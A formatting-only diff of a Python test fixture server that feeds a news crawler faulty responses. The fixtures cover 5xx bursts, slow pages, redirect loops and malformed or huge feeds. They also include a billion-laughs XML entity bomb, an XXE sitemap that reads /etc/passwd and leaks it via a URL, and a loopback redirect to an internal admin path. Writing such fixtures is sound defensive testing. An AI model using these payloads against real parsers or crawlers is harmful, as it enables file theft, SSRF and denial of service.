@@ -17,15 +17,30 @@ from mediawatch.fixture_web import material
 from mediawatch.fixture_web.response import HTML, RSS, XML, Response
 
 FAULT_MODES = (
-    "burst_5xx", "slow", "reset", "truncated", "redirect_loop", "redirect_loopback", "huge_page",
-    "bad_charset", "binary_as_html", "malformed_feed", "huge_feed", "xml_bomb",
+    "burst_5xx",
+    "slow",
+    "reset",
+    "truncated",
+    "redirect_loop",
+    "redirect_loopback",
+    "huge_page",
+    "bad_charset",
+    "binary_as_html",
+    "malformed_feed",
+    "huge_feed",
+    "xml_bomb",
 )
 # page faults: path slug under techpress's date folder -> mode; the crawler meets them as articles
 PAGE_SLUGS = {
-    "fault-burst-5xx": "burst_5xx", "fault-slow": "slow", "fault-reset": "reset",
-    "fault-truncated": "truncated", "fault-redirect-loop-a": "redirect_loop",
-    "fault-redirect-loopback": "redirect_loopback", "fault-huge-page": "huge_page",
-    "fault-bad-charset": "bad_charset", "fault-no-charset": "bad_charset",
+    "fault-burst-5xx": "burst_5xx",
+    "fault-slow": "slow",
+    "fault-reset": "reset",
+    "fault-truncated": "truncated",
+    "fault-redirect-loop-a": "redirect_loop",
+    "fault-redirect-loopback": "redirect_loopback",
+    "fault-huge-page": "huge_page",
+    "fault-bad-charset": "bad_charset",
+    "fault-no-charset": "bad_charset",
     "fault-binary": "binary_as_html",
 }
 HIDDEN_SLUGS = {"fault-redirect-loop-b": "redirect_loop"}  # reachable only by redirect
@@ -43,7 +58,9 @@ def parse_modes(modes: object) -> set[str]:
         return set(FAULT_MODES)
     unknown = chosen - set(FAULT_MODES)
     if unknown:
-        raise ValueError(f"unknown fault mode(s) {sorted(unknown)}; choose from {', '.join(FAULT_MODES)} or all")
+        raise ValueError(
+            f"unknown fault mode(s) {sorted(unknown)}; choose from {', '.join(FAULT_MODES)} or all"
+        )
     return chosen
 
 
@@ -53,14 +70,18 @@ def _article_html(title: str, seed: int, extra_bytes: int = 0) -> str:
     body = "".join(f"<p>{escape(p)}</p>\n" for p in paragraphs)
     if extra_bytes:
         body = body * (extra_bytes // max(len(body), 1) + 1)
-    return (f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{escape(title)}</title>'
-            f"</head><body><article><h1>{escape(title)}</h1>\n{body}</article></body></html>\n")
+    return (
+        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{escape(title)}</title>'
+        f"</head><body><article><h1>{escape(title)}</h1>\n{body}</article></body></html>\n"
+    )
 
 
 class FaultPlan:
     """Active fault modes and the per-URL state they need (5xx counters, cached huge bodies)."""
 
-    def __init__(self, seed: int, date: datetime, loopback: tuple[str, int], slow_seconds: float) -> None:
+    def __init__(
+        self, seed: int, date: datetime, loopback: tuple[str, int], slow_seconds: float
+    ) -> None:
         self.seed = seed
         self.folder = f"/{date:%Y/%m/%d}/"
         self.loopback = loopback
@@ -74,13 +95,15 @@ class FaultPlan:
         chosen = parse_modes(modes)
         with self._lock:
             # switching a mode (back) on restarts its 5xx burst
-            self._hits = {p: n for p, n in self._hits.items() if self.mode_of(p) in self.active & chosen}
+            self._hits = {
+                p: n for p, n in self._hits.items() if self.mode_of(p) in self.active & chosen
+            }
             self.active = chosen
 
     def mode_of(self, path: str) -> str | None:
         """The fault mode a techpress path belongs to, active or not."""
         if path.startswith(self.folder):
-            slug = path[len(self.folder):].rstrip("/")
+            slug = path[len(self.folder) :].rstrip("/")
             return PAGE_SLUGS.get(slug) or HIDDEN_SLUGS.get(slug)
         return FEED_PATHS.get(path) or SITEMAP_PATHS.get(path)
 
@@ -105,15 +128,18 @@ class FaultPlan:
         mode = self.mode_of(path)
         if mode is None or mode not in self.active:
             return None
-        slug = path[len(self.folder):].rstrip("/") if path.startswith(self.folder) else path
+        slug = path[len(self.folder) :].rstrip("/") if path.startswith(self.folder) else path
         page = _article_html(f"Fault page {slug}", self.seed).encode()
         if mode == "burst_5xx":
             with self._lock:
                 self._hits[path] = self._hits.get(path, 0) + 1
                 hit = self._hits[path]
             if hit <= 2:
-                return Response(500 if hit == 1 else 503, b"<h1>Server busy, try again</h1>",
-                                headers={"Retry-After": "1"})
+                return Response(
+                    500 if hit == 1 else 503,
+                    b"<h1>Server busy, try again</h1>",
+                    headers={"Retry-After": "1"},
+                )
             return Response(body=page)
         if mode == "slow":
             return Response(body=page, delay=self.slow_seconds)
@@ -128,8 +154,11 @@ class FaultPlan:
             host, port = self.loopback
             return Response(302, b"", headers={"Location": f"http://{host}:{port}/internal/admin"})
         if mode == "huge_page":
-            return Response(body=self._cached("huge", lambda: _article_html(
-                "Huge page", self.seed, HUGE_PAGE_BYTES).encode()))
+            return Response(
+                body=self._cached(
+                    "huge", lambda: _article_html("Huge page", self.seed, HUGE_PAGE_BYTES).encode()
+                )
+            )
         if mode == "bad_charset":
             text = _article_html("Café Müller: Straße, Größe, naïve façade", self.seed)
             body = text.encode("latin-1", errors="replace")
@@ -142,21 +171,34 @@ class FaultPlan:
         if mode == "malformed_feed":
             return Response(body=self._malformed_feed(base, healthy_urls), content_type=RSS)
         if mode == "huge_feed":
-            return Response(body=self._cached("huge_feed", lambda: self._huge_feed(base, healthy_urls)),
-                            content_type=RSS)
-        return Response(body=self._bomb(base) if path == "/bomb-sitemap.xml" else self._xxe(base),
-                        content_type=XML)
+            return Response(
+                body=self._cached("huge_feed", lambda: self._huge_feed(base, healthy_urls)),
+                content_type=RSS,
+            )
+        return Response(
+            body=self._bomb(base) if path == "/bomb-sitemap.xml" else self._xxe(base),
+            content_type=XML,
+        )
 
     def _malformed_feed(self, base: str, urls: list[str]) -> bytes:
-        items = "".join(f"<item><title>Story & more <b>{i}</title><link>{u}</link>" for i, u in enumerate(urls[:5]))
+        items = "".join(
+            f"<item><title>Story & more <b>{i}</title><link>{u}</link>"
+            for i, u in enumerate(urls[:5])
+        )
         # unescaped ampersands, unclosed items, a control character and no closing tags
-        return (f'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
-                f"<title>TechPress & Friends</title><link>{base}/</link>{items}\x0c<item><title>").encode()
+        return (
+            f'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
+            f"<title>TechPress & Friends</title><link>{base}/</link>{items}\x0c<item><title>"
+        ).encode()
 
     def _huge_feed(self, base: str, urls: list[str]) -> bytes:
-        filler = ("Lorem ipsum dolor sit amet, Tesla BYD Xiaomi consectetur adipiscing elit. " * 60).strip()
-        head = (f'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
-                f"<title>TechPress (everything)</title><link>{base}/</link>\n")
+        filler = (
+            "Lorem ipsum dolor sit amet, Tesla BYD Xiaomi consectetur adipiscing elit. " * 60
+        ).strip()
+        head = (
+            f'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
+            f"<title>TechPress (everything)</title><link>{base}/</link>\n"
+        )
         parts, size, i = [head], len(head), 0
         while size < HUGE_FEED_BYTES:
             link = urls[i % len(urls)] if urls else f"{base}/"
@@ -171,14 +213,18 @@ class FaultPlan:
         levels = ['<!ENTITY lol0 "lol">'] + [
             f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
         ]
-        return (f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE urlset [\n{chr(10).join(levels)}\n]>\n'
-                f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
-                f"<url><loc>{base}/&lol9;</loc></url></urlset>\n").encode()
+        return (
+            f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE urlset [\n{chr(10).join(levels)}\n]>\n'
+            f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+            f"<url><loc>{base}/&lol9;</loc></url></urlset>\n"
+        ).encode()
 
     def _xxe(self, base: str) -> bytes:
         host, port = self.loopback
-        return (f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE urlset [\n'
-                f'<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
-                f'<!ENTITY probe SYSTEM "http://{host}:{port}/xxe-probe">\n]>\n'
-                f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
-                f"<url><loc>{base}/leak?d=&xxe;</loc></url><url><loc>{base}/&probe;</loc></url></urlset>\n").encode()
+        return (
+            f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE urlset [\n'
+            f'<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
+            f'<!ENTITY probe SYSTEM "http://{host}:{port}/xxe-probe">\n]>\n'
+            f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+            f"<url><loc>{base}/leak?d=&xxe;</loc></url><url><loc>{base}/&probe;</loc></url></urlset>\n"
+        ).encode()
